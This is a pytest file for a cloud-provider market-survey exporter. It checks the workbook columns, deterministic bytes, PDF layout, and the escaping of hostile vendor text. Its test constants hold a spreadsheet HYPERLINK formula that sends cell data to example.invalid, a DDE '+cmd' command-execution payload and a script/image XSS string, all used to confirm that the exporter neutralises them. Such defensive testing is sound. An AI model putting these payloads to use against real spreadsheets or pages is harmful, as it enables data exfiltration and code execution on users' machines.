"""The market survey as a workbook and as a page for WeasyPrint: content, determinism and hostile vendor text."""

import datetime
import io
import json
import shutil
import subprocess
import zipfile

import openpyxl
import pytest

from evaluator.ingest.registry import read_entries
from evaluator.loading import load_framework
from evaluator.model.registry import RegistryEntry
from evaluator.report.render import render_pdfs
from evaluator.report.survey_export import NOTE, survey_html, survey_xlsx
from evaluator.survey import market_survey

from conftest import CSF_PATH, SAMPLES

AS_OF = "2026-11-26"
PROFILE = "guidance-2026"
HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'
HOSTILE_ASSESSOR = "+cmd|' /C calc'!A0"
SCRIPT = '<script>alert("x")</script><img src="http://example.invalid/x.png">'
needs_poppler = pytest.mark.skipif(not (shutil.which("pdfinfo") and shutil.which("pdftotext")),
                                   reason="poppler-utils is not installed (setup.sh --tests installs it)")


@pytest.fixture(scope="module")
def framework():
    return load_framework(CSF_PATH)[0]


@pytest.fixture(scope="module")
def entries(framework) -> list[RegistryEntry]:
    found, refused = read_entries([str(SAMPLES / "registry")], framework)
    assert not refused and len(found) == 8
    return found


@pytest.fixture(scope="module")
def rows(entries, framework) -> list[dict]:
    return market_survey(entries, framework, datetime.date.fromisoformat(AS_OF))


def hostile_rows(entries, framework, name: str, assessor: str) -> list[dict]:
    """The sample market with its first provider renamed to `name` and assessed by `assessor`."""
    first = RegistryEntry.model_validate({**json.loads(entries[0].model_dump_json()), "provider_name": name,
                                          "assessor": assessor})
    return market_survey([first, *entries[1:]], framework, datetime.date.fromisoformat(AS_OF))


def sheet_rows(workbook_bytes: bytes, name: str) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    return [tuple(row) for row in workbook[name].iter_rows(values_only=True)]


class TestWorkbook:
    def test_a_row_per_provider_with_its_levels_as_codes(self, rows, framework):
        workbook = openpyxl.load_workbook(io.BytesIO(survey_xlsx(rows, framework, AS_OF, PROFILE)))
        assert workbook.sheetnames == ["Survey", "About"]
        table = [tuple(row) for row in workbook["Survey"].iter_rows(values_only=True)]
        header = table[0]
        assert header == ("Provider", "Provider name", "Assessor", "Kind", "Assessed on", "Valid until", "Valid",
                          "Reason", "Overall level", "SOV-1", "SOV-2", "SOV-3", "SOV-4", "SOV-5", "SOV-6", "SOV-7",
                          "SOV-8", "Sovereignty Score (%)", "Meets minimums", "Problems")
        assert [line[0] for line in table[1:]] == [row["provider"] for row in rows]  # the survey's order
        first = dict(zip(header, table[1], strict=True))
        assert first == {"Provider": "alpine-sovereign", "Provider name": "Alpine Sovereign Cloud AG",
                         "Assessor": "Panel of tender T-2026-014 (fictitious)", "Kind": "authorised",
                         "Assessed on": "2026-05-05", "Valid until": "2027-05-04", "Valid": "yes", "Reason": None,
                         "Overall level": "SEAL-3", "SOV-1": "SEAL-4", "SOV-2": "SEAL-4", "SOV-3": "SEAL-4",
                         "SOV-4": "SEAL-3", "SOV-5": "SEAL-3", "SOV-6": "SEAL-4", "SOV-7": "SEAL-3", "SOV-8": "SEAL-3",
                         "Sovereignty Score (%)": 90.92, "Meets minimums": "yes", "Problems": None}
        expired = dict(zip(header, next(line for line in table if line[0] == "baltic-compute"), strict=True))
        assert (expired["Valid"], expired["Reason"]) == ("no", "expired on 2026-08-31 (as of 2026-11-26)")
        for line, row in zip(table[1:], rows, strict=True):  # every level of every provider
            codes = [framework.level_scale.code(row["levels"][oid]) for oid in framework.objective_ids]
            assert list(line[9:17]) == codes

    def test_about_names_the_date_framework_profile_and_that_it_is_no_award(self, rows, framework):
        about = dict(sheet_rows(survey_xlsx(rows, framework, AS_OF, PROFILE), "About"))
        assert about["As of"] == AS_OF
        assert (about["Framework"], about["Framework version"]) == (framework.id, framework.version)
        assert about["Weight profile"] == PROFILE
        assert about["Providers"] == 8
        assert "not an award decision" in about["Market survey"]

    def test_a_refused_entry_has_no_levels_and_its_problems(self, entries, framework):
        broken = RegistryEntry.model_validate({**json.loads(entries[0].model_dump_json()),
                                               "answers": {"SOV-1.1": {"answer": "not a rank"}}})
        survey = market_survey([broken, *entries[1:]], framework, datetime.date.fromisoformat(AS_OF))
        table = sheet_rows(survey_xlsx(survey, framework, AS_OF, PROFILE), "Survey")
        last = dict(zip(table[0], table[-1], strict=True))
        assert last["Provider"] == broken.provider
        assert (last["Overall level"], last["SOV-1"], last["Sovereignty Score (%)"]) == (None, None, None)
        assert last["Valid"] == "no" and last["Problems"]

    def test_vendor_text_stays_text_never_a_formula(self, entries, framework):
        survey = hostile_rows(entries, framework, HOSTILE_NAME, HOSTILE_ASSESSOR)
        content = survey_xlsx(survey, framework, AS_OF, PROFILE)
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        cells = {cell.value: cell for line in workbook["Survey"].iter_rows(min_row=2) for cell in line}
        assert "'" + HOSTILE_NAME in cells and "'" + HOSTILE_ASSESSOR in cells
        assert cells["'" + HOSTILE_NAME].data_type == "s" and cells["'" + HOSTILE_ASSESSOR].data_type == "s"
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)

    def test_the_same_survey_gives_the_same_bytes(self, rows, framework):
        first = survey_xlsx(rows, framework, AS_OF, PROFILE)
        assert first == survey_xlsx([dict(row) for row in rows], framework, AS_OF, PROFILE)
        assert first != survey_xlsx(rows, framework, "2026-11-27", PROFILE)
        with zipfile.ZipFile(io.BytesIO(first)) as archive:  # no clock: a fixed date, not the time of writing
            core = archive.read("docProps/core.xml").decode()
        assert core.count("2000-01-01T00:00:00Z") == 2  # created and modified


class TestPage:
    def test_title_profile_table_and_note(self, rows, framework):
        html = survey_html(rows, framework, AS_OF, PROFILE)
        assert f"<h1>Market survey — {framework.title}, as of {AS_OF}</h1>" in html
        assert f"weight profile <strong>{PROFILE}</strong>" in html
        assert NOTE in html and "not an award decision" in NOTE
        assert "size: A4 landscape" in html and 'href="asset:report.css"' in html
        assert html.count("<tr") == 1 + len(rows)
        assert "<strong>SEAL-3</strong>" in html and ">90.92<" in html
        assert "no: expired on 2026-08-31 (as of 2026-11-26)" in html

    def test_hostile_vendor_text_is_escaped(self, entries, framework):
        html = survey_html(hostile_rows(entries, framework, SCRIPT, "<b>Assessor</b>"), framework, AS_OF,
                           "<i>profile</i>")
        assert "<script>" not in html and "<img" not in html and "<b>Assessor" not in html and "<i>" not in html
        assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
        assert "&lt;b&gt;Assessor&lt;/b&gt;" in html and "&lt;i&gt;profile&lt;/i&gt;" in html

    @needs_poppler
    def test_renders_to_a_landscape_pdf(self, entries, framework, tmp_path):
        pdf, = render_pdfs([survey_html(hostile_rows(entries, framework, SCRIPT, HOSTILE_ASSESSOR), framework, AS_OF,
                                        PROFILE)])
        path = tmp_path / "survey.pdf"
        path.write_bytes(pdf)
        info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True).stdout
        fields = {key.strip(): value.strip() for key, _, value in (line.partition(":") for line in info.splitlines())}
        assert int(fields["Pages"]) >= 1
        width, _, height = fields["Page size"].split()[:3]
        assert float(width) > float(height)  # landscape
        text = " ".join(subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True,
                                       check=True).stdout.split())
        assert "Market survey —" in text and "as of 2026-11-26" in text
        assert "not an award decision" in text and "page 1 of" in text
        assert '<script>alert("x")</script>' in text  # shown as text, not run or dropped
        assert "Nordlys Cloud AS" in text and "SEAL-3" in text
        assert b"/Image" not in pdf

